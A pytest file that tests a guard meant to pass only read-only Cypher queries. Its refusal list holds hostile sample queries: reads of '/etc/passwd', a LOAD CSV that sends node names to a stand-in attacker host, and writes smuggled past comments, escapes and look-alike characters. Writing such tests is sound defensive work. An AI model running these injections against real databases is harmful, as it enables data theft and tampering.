"""The guard: honest queries pass, everything that could do more than read is refused before it is sent."""

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graphwatch.errors import QueryRefused
from graphwatch.queries import Library, check_reading, silent_differences

REFUSED = [
    # Plain writes, in any case, wherever a clause may stand.
    "CREATE (n:Account {id: 'x'})",
    "create (n:Account {id: 'x'}) return n",
    "MATCH (n) SET n.name = 'x' RETURN n",
    "MATCH (n) sEt n:Page",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) NODETACH DELETE n",
    "MATCH (n) REMOVE n.name RETURN n",
    "MERGE (n:Account {id: 'x'}) RETURN n",
    "MATCH (n) MERGE (m:Account {id: n.id}) ON CREATE SET m.name = 'x' RETURN m",
    "INSERT (n:Account {id: 'x'})",
    "MATCH (n) FOREACH (x IN [1] | SET n.name = 'x') RETURN n",
    "UNWIND [1] AS x CREATE (n:Account {id: 'x'}) RETURN n",
    "WITH 1 AS x CREATE (n) RETURN n",
    "RETURN 1 AS x CREATE (n)",
    "RETURN 1 AS create CREATE (n)",
    "RETURN 1 UNION CREATE (n) RETURN 1",
    "MATCH (n) RETURN n LIMIT 1 SET n.x = 1",
    "MATCH (n) WITH n ORDER BY n.id SET n.x = 1 RETURN n",
    # Schema and administration.
    "CREATE NODE TABLE T(id STRING PRIMARY KEY)",
    "CREATE CONSTRAINT c FOR (n:Account) REQUIRE n.id IS UNIQUE",
    "CREATE USER eve SET PASSWORD 'password'",
    "DROP TABLE Account",
    "ALTER TABLE Account ADD x STRING",
    "SHOW USERS",
    "SHOW SETTINGS YIELD name RETURN name",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "GRANT ROLE admin TO eve",
    "USE system MATCH (n) RETURN n",
    "ATTACH 'other.db' AS other (dbtype lbug)",
    "DETACH other",
    "BEGIN TRANSACTION",
    "COMMIT",
    "CHECKPOINT",
    # Files and the network.
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://evil.example' AS line RETURN line",
    "MATCH (n) LOAD CSV FROM 'http://evil.example/' + n.name AS line RETURN line",
    "LOAD FROM '/etc/passwd' RETURN *",
    "LOAD WITH HEADERS (a STRING) FROM 'x.csv' RETURN a",
    "MATCH (n) WITH n LOAD FROM 'x.csv' RETURN *",
    "COPY (MATCH (n:Account) RETURN n.*) TO 'out.csv'",
    "COPY Account FROM 'in.csv'",
    "COPY Account TO 'out.csv'",
    "EXPORT DATABASE 'folder'",
    "IMPORT DATABASE 'folder'",
    "INSTALL httpfs",
    "LOAD EXTENSION httpfs",
    "UNINSTALL httpfs",
    # Procedures and functions that are not plain.
    "CALL db.labels()",
    "CALL dbms.killConnection('bolt-1') YIELD message RETURN message",
    "CALL show_tables() RETURN *",
    "CALL threads=1",
    "CALL { CREATE (n) } RETURN 1",
    "CALL { MATCH (n) RETURN n } RETURN n",
    "CALL () { MATCH (n) RETURN n } RETURN n",
    "MATCH (n) CALL { WITH n SET n.x = 1 } IN TRANSACTIONS RETURN n",
    "OPTIONAL CALL db.labels() YIELD label RETURN label",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {})",
    "RETURN gds.util.asNode(1)",
    "RETURN `apoc`.`util`.sleep(1)",
    "RETURN `apoc.util.sleep`(1)",
    "RETURN `toLower`('X')",
    "RETURN db.nameFromElementId('x')",
    "MATCH (n) WHERE apoc.load.json('http://evil.example') = 1 RETURN n",
    "RETURN nextval('s')",
    "RETURN file()",
    "RETURN unknown_function(1)",
    # Prefixes and options.
    "EXPLAIN CREATE (n)",
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) RETURN n",
    "PROFILE CREATE (n)",
    "CYPHER 5 MATCH (n) RETURN n",
    "CYPHER runtime=parallel MATCH (n) RETURN n",
    "/* x */ EXPLAIN /* y */ CREATE (n)",
    # Several statements.
    "RETURN 1; CREATE (n)",
    "RETURN 1; RETURN 2",
    "RETURN 1;;",
    ";RETURN 1",
    "RETURN 1; // x\nCREATE (n)",
    # Hidden in comments and strings.
    "RETURN 1 // \nCREATE (n)",
    "RETURN 1 /* */ CREATE (n) /* */",
    "RETURN 1 /* /* */ CREATE (n) // */",
    "/***/ RETURN 'x */ CREATE (n) //'",
    "/** note **/ RETURN 1 /* */ CREATE (n)",
    "RETURN 1 /* open",
    "RETURN 1 // x \r CREATE (n)",
    "RETURN 1 // x \u2028 CREATE (n)",
    "RETURN 1 // x \x85 CREATE (n)",
    "RETURN 'a' CREATE (n) RETURN 'b'",
    "RETURN 'a\\'' CREATE (n) RETURN 'b'",
    "RETURN 'a\\\\' CREATE (n) RETURN 'b'",
    "RETURN \"a' \" CREATE (n) RETURN ' \"'",
    "RETURN 'a' 'b'",
    "RETURN 'a''b'",
    "RETURN 'open",
    "MATCH (`n``) CREATE (m) RETURN ``",
    "MATCH (``) RETURN 1",
    # Escapes, spaces, look-alikes.
    "RETURN '\\u0027 CREATE (n) //'",
    "RETURN '\\U00000027 CREATE (n) //'",
    "RETURN 1 // \\u000a CREATE (n)",
    "\\u0043REATE (n)",
    "MATCH (n) \\u0053ET n.x = 1 RETURN n",
    "MATCH (`n\\u0060) SET n.x = 1 //`) RETURN 1",
    "RETURN 'a\\d'",
    "\\ CREATE (n)",
    "\uff23\uff32\uff25\uff21\uff34\uff25 (n)",
    "\u0421REATE (n)",
    "MATCH (n)\u00a0SET n.x = 1 RETURN n",
    "MATCH (n)\u2003RETURN n",
    "MATCH (n)\x0bRETURN n",
    "MATCH (n)\x0cRETURN n",
    "\ufeffRETURN 1",
    "RETURN 1\x00 CREATE (n)",
    "RETURN '\x00'",
    "RETURN '\udc80'",
    "RETURN 1CREATE (n)",
    # Subqueries that write or call.
    "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
    "MATCH (n) WHERE EXISTS { MATCH (n) SET n.x = 1 } RETURN n",
    "MATCH (n) WHERE EXISTS { MATCH (n) WHERE EXISTS { CALL db.labels() } } RETURN n",
    "RETURN COUNT { MATCH (n) DELETE n }",
    "RETURN COUNT { RETURN 1 AS x UNION MERGE (n) RETURN 1 AS x }",
    "RETURN COLLECT { MATCH (n) RETURN n }",
    "RETURN [x IN [1] | CREATE (n)]",
    "RETURN CASE WHEN true THEN CREATE (n) END",
    # Without an upper bound, or above it.
    "MATCH (a)-[*]-(b) RETURN a",
    "MATCH (a)-[:LIKED*]->(b) RETURN a",
    "MATCH (a)-[*2..]-(b) RETURN a",
    "MATCH (a)-[* SHORTEST]-(b) RETURN a",
    "MATCH (a)-[*1..31]-(b) RETURN a",
    "MATCH (a)-[*99]-(b) RETURN a",
    "MATCH (a)-[*1..999999999999999999999]-(b) RETURN a",
    "MATCH (a)-->+(b) RETURN a",
    "MATCH (a)-->*(b) RETURN a",
    "MATCH (a)-[:LIKED]->{2,}(b) RETURN a",
    "MATCH (a) ((x)-->(y))+ (b) RETURN a",
    "MATCH (a) ((x)-->(y)){1,} (b) RETURN a",
    "MATCH (a) WHERE EXISTS { (a)-[*]->() } RETURN a",
    "MATCH (a) WHERE (a)-[*]->() RETURN a",
    "RETURN [(a)-[*]->(b) | b.id]",
    "MATCH p = shortestPath((a)-[*]-(b)) RETURN p",
    # Not a whole query.
    "",
    "  // nothing\n",
    "MATCH (n)",
    "MATCH (n) WITH n",
    "RETURN",
    "MATCH (n) RETURN n,",
    "MATCH (n RETURN n",
    "MATCH (n)) RETURN n",
    "RETURN [1)",
    "RETURN $",
    "MATCH (n:$($label)) RETURN n",
    "MATCH (n) RETURN n extra",
]

# Each also runs on the embedded engine.
HONEST = [
    "RETURN 1",
    "RETURN 1;",
    "return 1 As x",
    "RETURN 0.5 + 0.5, 1e3, -1, 2 ^ 3, 7 % 2",
    "RETURN 'SET n.x = 1; CREATE (n)' AS text",
    "RETURN \"DELETE 'n'\" AS text // CREATE (n)",
    "/* CREATE (n) */ RETURN 1 /* SET */",
    "RETURN 'https://x.example/a//b' AS url",
    "RETURN 'it\\'s', \"a \\\"quote\\\"\", 'back\\\\slash', '\\n'",
    "RETURN 'Ünïcödé \u202e <script>' AS text",
    "MATCH (n) RETURN count(*) AS count ORDER BY count",
    "MATCH (n:Account) RETURN n",
    "MATCH (n:Account) RETURN n.id AS set",
    "MATCH (n:Account) RETURN n.id AS `delete` ORDER BY `delete`",
    "MATCH (`match`:Account) RETURN `match`.id",
    "MATCH (`nämé`:Account) RETURN `nämé`.id",
    "MATCH (a:Account) RETURN a.id AS from, a.name AS to ORDER BY from",
    "MATCH (a:Account {id: 'x:1'}) RETURN a.handle",
    "MATCH (a:Account) WHERE a.handle STARTS WITH '<' OR a.handle ENDS WITH ')' RETURN a.id",
    "MATCH (a:Account) WHERE a.handle CONTAINS 'script' AND NOT a.name IS NULL RETURN a.id",
    "MATCH (a:Account) WHERE a.name IS NOT NULL XOR a.id = 'x:1' RETURN a.id",
    "MATCH (a:Account) WHERE a.handle =~ '.*script.*' RETURN a.id",
    "MATCH (a:Account) WHERE a.id IN ['x:1', 'x:2'] RETURN a.id",
    "MATCH (a:Account) WHERE a.id <> 'x:1' AND a.id >= 'x:2' RETURN a.id",
    "MATCH (a:Account)-[i:LIKED|SHARED]->(o:Post) RETURN a.id, i.kind, o.id ORDER BY i.at_ms DESC SKIP 1 LIMIT 2",
    "MATCH (a:Account)-[i]->(o) RETURN count(i) AS n",
    "MATCH (a:Account)-->(o:Post)<--(b:Account) WHERE a.id < b.id RETURN a.id, b.id, count(DISTINCT o.id) AS n",
    "MATCH (a:Account)-[:LIKED]-(o:Post) RETURN DISTINCT o.id",
    "MATCH p = (a:Account)-[:LIKED|SHARED*1..3]-(b:Account) WHERE a.id < b.id RETURN length(p) AS n, nodes(p)",
    "MATCH (a:Account)-[:LIKED*2]-(b:Account) RETURN a.id, b.id",
    "MATCH (a:Account)-[:LIKED*..2]-(b:Account) RETURN a.id, b.id",
    "MATCH (a:Account)-[e:LIKED|SHARED* SHORTEST 1..4]-(b:Account) WHERE a.id <> b.id RETURN length(e)",
    "MATCH (a:Account) OPTIONAL MATCH (a)-[:MEMBER_OF]->(k:Cluster) RETURN a.id, k.number",
    "MATCH (a:Account) OPTIONAL MATCH (a)-[i:LIKED]->(:Post) WHERE i.at_ms IS NULL RETURN a.id, count(i) AS n",
    "MATCH (a:Account), (p:Page) RETURN count(*) AS n",
    "MATCH (a:Account) WITH a ORDER BY a.id LIMIT 2 WHERE a.id <> 'x:9' RETURN collect(a.id) AS ids",
    "MATCH (a:Account)-[i:LIKED]->(o:Post) WITH o, count(i) AS likes WHERE likes > 1 RETURN o.id, likes",
    "MATCH (a:Account) WITH DISTINCT a.platform AS platform RETURN platform",
    "MATCH (a:Account) WITH * RETURN *",
    "UNWIND [1, 2, 3] AS x WITH x WHERE x > 1 RETURN x * 2 AS y ORDER BY y DESC",
    "UNWIND range(0, 23) AS hour RETURN hour",
    "MATCH (a:Account) RETURN a.id AS id UNION MATCH (p:Page) RETURN p.id AS id",
    "MATCH (a:Account) RETURN a.id AS id UNION ALL MATCH (p:Page) RETURN p.id AS id",
    "MATCH (a:Account) RETURN CASE WHEN a.name IS NULL THEN '-' ELSE a.name END AS name",
    "MATCH (i:Post) RETURN CASE i.id WHEN 'x:a' THEN 1 WHEN 'x:b' THEN 2 END AS number",
    "MATCH (a:Account) WHERE EXISTS { MATCH (a)-[:LIKED]->(:Post) } RETURN a.id",
    "MATCH (a:Account) WHERE NOT EXISTS { MATCH (a)-[:LIKED]->(o:Post) WHERE o.text = 'b' } RETURN a.id",
    "MATCH (a:Account) RETURN a.id, COUNT { MATCH (a)-[:LIKED]->(:Post) } AS likes ORDER BY likes DESC, a.id",
    "MATCH (a:Account) WHERE (a)-[:SHARED]->(:Post) RETURN a.id",
    "MATCH (a:Account) WHERE NOT (a)-[:SHARED]->(:Post) RETURN a.id",
    "RETURN coalesce(null, 1), toLower('A'), toUpper('a'), size('abc'), left('abc', 2), abs(-1)",
    "MATCH (o:Post) RETURN min(o.at_ms), max(o.at_ms), avg(o.at_ms), sum(o.at_ms), count(o.at_ms)",
    "WITH [1, 2] AS l RETURN any(x IN l WHERE x > 1), all(x IN l WHERE x > 0)",
    "RETURN {a: 1, b: 'x'} AS map",
    "WITH {set: 1} AS m RETURN m.set",
    "RETURN [1, 2, 3][1] AS item, [1, 2, 3][1..2] AS part",
    "RETURN (1 + 2) - 3, (1) < -1, -(-1), NOT NOT true",
    "MATCH (a:Account)\r\nRETURN a.id\r\n",
    "MATCH (a:Account)\n\t// a comment\n\tRETURN a.id // another",
]
# Reading queries in words that the embedded engine does not know.
HONEST_NEO4J = [
    "MATCH (a:Account)-[:LIKED]->{1,3}(b) RETURN a.id",
    "MATCH (a) ((x)-[:LIKED]-(y)){1,4} (b) RETURN a.id",
    "MATCH p = shortestPath((a:Account)-[*..5]-(b:Account)) RETURN p",
    "MATCH (a:Account WHERE a.id = 'x:1') RETURN a",
    "MATCH (a) WHERE a:Account RETURN elementId(a), labels(a), type(a)",
    "MATCH (a) WHERE EXISTS { (a)-->(b) WHERE b.id = 'x' } RETURN COUNT { (a)--() } AS n",
    "MATCH (a) RETURN [(a)-[:LIKED]->(o) WHERE o.id <> '' | o.id] AS posts",
    "RETURN [x IN range(1, 5) WHERE x > 2 | x * x] AS squares",
    "RETURN reduce(total = 0, x IN [1, 2] | total + x) AS total",
    "RETURN any(x IN [1, 2] WHERE x > 1), none(x IN [1] WHERE x > 1), single(x IN [1] WHERE x = 1)",
    "RETURN toString(1), head([1]), split('a,b', ',')",
    "MATCH (a {id: $`odd name`}) RETURN $set",
]


@pytest.mark.parametrize("cypher", REFUSED)
def test_refuses(cypher):
    with pytest.raises(QueryRefused) as refused:
        check_reading(cypher)
    assert refused.value.where.startswith("line ")
    assert refused.value.remedy


@pytest.mark.parametrize("cypher", [*HONEST, *HONEST_NEO4J, *(q.cypher for q in Library().all())])
def test_accepts(cypher):
    check_reading(cypher)


@pytest.mark.parametrize("cypher", HONEST)
def test_honest_queries_run_on_the_embedded_engine(cypher, run_on_embedded):
    columns, _ = run_on_embedded(cypher)
    assert columns


def test_comment_that_the_embedded_engine_ends_later_is_refused(run_on_embedded):
    """The engine runs what stands inside of the string; a reader that ends the comment early sees a string."""
    hidden = "/***/ RETURN 'x */ RETURN 2 AS hidden //'"
    assert run_on_embedded(hidden)[0] == ["hidden"]
    with pytest.raises(QueryRefused, match="different places"):
        check_reading(hidden)


def test_names_line_and_column():
    with pytest.raises(QueryRefused) as refused:
        check_reading("MATCH (n:Account)\r\n  WHERE n.id = 'x'\r\n  SET n.name = ''\r\nRETURN n")
    assert refused.value.where == "line 3, column 3"
    assert "SET" in refused.value.what


def test_deep_and_long_texts_are_refused_and_not_followed():
    for text in ("RETURN " + "(" * 5_000 + "1" + ")" * 5_000, "RETURN " + "CASE WHEN " * 5_000, "R" * 200_000):
        with pytest.raises(QueryRefused):
            check_reading(text)
    check_reading("RETURN " + "NOT " * 5_000 + "true")


CLAUSES = [
    ["MATCH (a:Account)", "WITH a", "RETURN a.id"],
    ["MATCH (a)-[i:LIKED]->(o:Post)", "WHERE i.at_ms > 5", "RETURN o.id", "ORDER BY o.id", "LIMIT 5"],
    ["UNWIND [1, 2] AS x", "WITH x", "WHERE x > 1", "RETURN x", "UNION", "RETURN 1 AS x"],
    ["OPTIONAL MATCH (a)", "WHERE EXISTS {", "MATCH (a)-->(b)", "}", "RETURN a"],
]
WRITES = [
    "CREATE (z:Account {id: 'z'})",
    "SET a.name = 'z'",
    "DETACH DELETE a",
    "DELETE a",
    "REMOVE a.name",
    "MERGE (z:Account {id: 'z'})",
    "FOREACH (q IN [1] | CREATE (z))",
    "CALL db.labels()",
    "CALL { CREATE (z) }",
    "LOAD CSV FROM 'x' AS line",
    "LOAD FROM 'x'",
    "COPY Account TO 'x'",
    "DROP TABLE Account",
    "; CREATE (z)",
]
SPACES = [" ", "\n", "\t", "/**/", " // x\n", "/* a */ "]


@given(st.sampled_from(CLAUSES), st.sampled_from(WRITES), st.integers(0, 6), st.sampled_from(SPACES), st.randoms())
def test_a_write_at_any_boundary_is_refused(clauses, write, at, space, random):
    write = "".join(random.choice([c.lower(), c.upper()]) if c.isalpha() else c for c in write)
    text = space.join([*clauses[:at], write, *clauses[at:]])
    check_reading(space.join(clauses))
    with pytest.raises(QueryRefused):
        check_reading(text)


PIECES = [
    *("MATCH (a:Account)", "OPTIONAL MATCH", "(o:Post)", "-[i:LIKED]->", "WHERE", "WITH", "RETURN", "UNION", "a", "o"),
    *("a.id", "1", "'x'", '"', "'", "`", "``", "*", ",", "AS", "x", "(", ")", "{", "}", "[", "]", ":", ".", "$p", ";"),
    *(
        "SET a.name = 'z'",
        "DELETE a",
        "CREATE (:Page {id: 'z'})",
        "//",
        "/*",
        "*/",
        "**/",
        "\\n",
        "\\",
        "\n",
        "\r",
        "=",
    ),
    *("EXISTS {", "COUNT {", "CASE", "WHEN", "THEN", "END", "CALL", "count(*)", "ORDER BY", "LIMIT", "IN", "NOT", "-"),
]


@settings(max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=9), st.sampled_from([" ", ""]))
def test_what_is_accepted_of_random_pieces_changes_nothing(run_on_embedded, pieces, space):
    text = "MATCH (a:Account) " + space.join([*pieces, " RETURN 1"])
    try:
        check_reading(text)
    except QueryRefused:
        return
    with contextlib.suppress(RuntimeError):
        run_on_embedded(text)
    count = "MATCH (a) RETURN count(a) AS n, count(DISTINCT a.name) AS names"
    assert run_on_embedded(count)[1] == [{"n": 14, "names": 6}]


VISIBLE = st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"], exclude_characters="\ufeff")


@given(st.text(VISIBLE | st.sampled_from("'\"\\`/*;"), max_size=40).filter(lambda t: "\\u" not in t.lower()))
def test_a_literal_is_only_a_literal(run_on_embedded, text):
    literal = "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
    query = f"RETURN {literal} AS text"
    check_reading(query)
    assert run_on_embedded(query)[1] == [{"text": text}]


@pytest.mark.parametrize(
    ("cypher", "word"),
    [
        ("RETURN log(2)", "log()"),
        ("RETURN substring('abc', 1)", "substring()"),
        ("RETURN [1, 2][0]", "positions"),
        ("MATCH (a:Account:Page) RETURN a", "two labels"),
    ],
)
def test_names_what_differs_silently(cypher, word):
    (difference,) = silent_differences(cypher)
    assert word in difference
    assert difference.startswith("line 1, column ")


def test_says_nothing_of_portable_text():
    assert silent_differences("MATCH (a:Account)-[i:LIKED|SHARED]->(o) RETURN a.id, log10(2), 'log(2)'") == []
